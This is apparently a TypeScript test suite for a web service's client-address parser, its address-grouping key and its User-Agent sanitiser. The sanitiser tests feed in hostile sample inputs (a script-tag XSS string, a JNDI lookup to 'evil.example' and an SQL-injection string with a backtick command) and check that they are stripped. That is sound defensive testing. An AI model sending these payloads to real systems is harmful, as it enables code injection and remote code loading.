import { describe, expect, it } from "vitest";

import { clientAddressKey, parseClientAddress } from "../../../contract/client-address.ts";
import { createReadBrowser } from "./client-address.ts";

describe("parseClientAddress", () => {
  it.each([
    ["192.0.2.1", "192.0.2.1"],
    [" 192.0.2.1 ", "192.0.2.1"],
    ["::1", "::1"],
    ["2001:DB8:0:0:1::5", "2001:db8::1:0:0:5"],
    ["fe80::1%eth0", "fe80::1"],
    ["203.0.113.7:51234", "203.0.113.7"],
    ["[2001:db8::1]:443", "2001:db8::1"],
    ["[2001:db8::1]", "2001:db8::1"],
    ["[fe80::1%eth0]:443", "fe80::1"],
    ["for=192.0.2.60", "192.0.2.60"],
    ["for=192.0.2.60;proto=http;by=203.0.113.43", "192.0.2.60"],
    ["proto=https; For=192.0.2.60:8080", "192.0.2.60"],
    ['for="[2001:db8:cafe::17]:4711"', "2001:db8:cafe::17"],
    ['by=203.0.113.43;for="192.0.2.60:80";host=example.com', "192.0.2.60"],
    ["\t192.0.2.1:80 ", "192.0.2.1"],
    ["[fe80::1%25eth0]:443", "fe80::1"],
    ["[64:ff9b::c000:201]:80", "64:ff9b::c000:201"],
    ["::ffff:192.0.2.1", "::ffff:c000:201"],
  ])("reads %j as %s", (value, expected) => {
    expect(parseClientAddress(value)).toBe(expected);
  });

  it.each([
    undefined,
    null,
    "",
    "unknown",
    "_hidden",
    "for=unknown",
    "for=_gazonk",
    "for=",
    "by=192.0.2.1",
    "for=192.0.2.1, for=198.51.100.7",
    "for=192.0.2.1;for=198.51.100.7",
    "proto=https;for=192.0.2.1;by=x;FOR=198.51.100.7",
    'for="_secret:80"',
    "for = 192.0.2.1",
    "::ffff:192.0.2.1:443",
    "[2001:db8::1]:",
    "203.0.113.7:",
    "192.0.2.1/32",
    "3232235777",
    "-",
    "192.0.2.1, 198.51.100.7",
    "192.0.2.1:80, 198.51.100.7:80",
    "192.0.2.1,",
    "192.0.2.1 198.51.100.7",
    "192.0.2.256",
    "192.0.2",
    "0300.0.2.1",
    "1.2.3.4:port",
    "1.2.3.4:123456",
    "[1.2.3.4]:80",
    "[::1",
    "[::1]80",
    "::1]/@evil",
    "[::1]/@evil",
    "example.com",
    "example.com:80",
    "12345::",
  ])("refuses %j", (value) => {
    expect(parseClientAddress(value)).toBeNull();
  });
});

function keyOf(value: string): string {
  return clientAddressKey(parseClientAddress(value));
}

describe("clientAddressKey", () => {
  it("counts all addresses of an IPv6 /64 together", () => {
    expect(keyOf("2001:db8:1:2::1")).toBe(keyOf("2001:db8:1:2:ffff:ffff:ffff:ffff"));
    expect(keyOf("2001:db8:1:2::1")).not.toBe(keyOf("2001:db8:1:3::1"));
    expect(keyOf("::1")).toBe("0000:0000:0000:0000::/64");
  });

  it("counts an IPv4 address and its IPv6-mapped form together", () => {
    expect(keyOf("::ffff:192.0.2.1")).toBe("192.0.2.1");
    expect(keyOf("192.0.2.1")).toBe("192.0.2.1");
  });

  it.each([
    ["IPv4-mapped", "::ffff:192.0.2.1"],
    ["IPv4-mapped, with a port", "[::ffff:192.0.2.1]:443"],
    ["IPv4-translated", "::ffff:0:192.0.2.1"],
    ["NAT64", "64:ff9b::192.0.2.1"],
    ["NAT64, in hexadecimal digits", "64:ff9b::c000:201"],
    ["6to4", "2002:c000:201::1"],
    ["6to4, another network of the subscriber", "2002:c000:201:7::5"],
    ["Teredo", "2001:0:4136:e378:8000:63bf:3fff:fdfe"],
    ["Teredo, through another server and port", "2001:0:a:b:0:1:3fff:fdfe"],
    ["IPv4 with a port", "192.0.2.1:51234"],
  ])("counts the IPv4 address in another form as that address: %s", (_, value) => {
    expect(keyOf(value)).toBe("192.0.2.1");
  });

  it("counts each client of a NAT64 of the operator's own by itself", () => {
    expect(keyOf("64:ff9b:1::c000:201")).not.toBe(keyOf("64:ff9b:1::c000:202"));
    expect(keyOf("64:ff9b:1:c000:2:100::")).not.toBe(keyOf("64:ff9b:1:c000:2:200::"));
  });

  it.each(["64:ff9b:2::c000:201", "2003:c000:201::1", "2001:db8::c000:201", "::c000:201"])(
    "counts %s by its /64, because no IPv4 address is in it",
    (value) => {
      expect(keyOf(value)).toMatch(/::\/64$/);
    },
  );

  it("counts unknown addresses together", () => {
    expect(keyOf("nonsense")).toBe(keyOf("192.0.2.1, 192.0.2.2"));
  });
});

function readUserAgent(userAgent: string): string | null {
  const headers = new Headers({ "User-Agent": userAgent, "x-address": "192.0.2.1" });
  return createReadBrowser("x-address", () => undefined)(headers).userAgent;
}

describe("createReadBrowser", () => {
  it.each([
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
  ])("keeps a browser's User-Agent: %s", (userAgent) => {
    expect(readUserAgent(userAgent)).toBe(userAgent);
  });

  it.each([
    ["<script>alert('x')</script>", "scriptalert(x)/script"],
    ["${jndi:ldap://evil.example/a}", "jndi:ldap://evil.example/a"],
    ["' OR 1=1 -- \\%00`id`", " OR 11 -- 00id"],
    ["\u00e9\u00ffBrowser/1.0", "Browser/1.0"],
    ["<>{}", null],
    ["a".repeat(5000), "a".repeat(256)],
    ["<".repeat(5000) + "b", "b"],
  ])("drops from a User-Agent what browsers don't send: %s", (userAgent, expected) => {
    expect(readUserAgent(userAgent)).toBe(expected);
  });
});
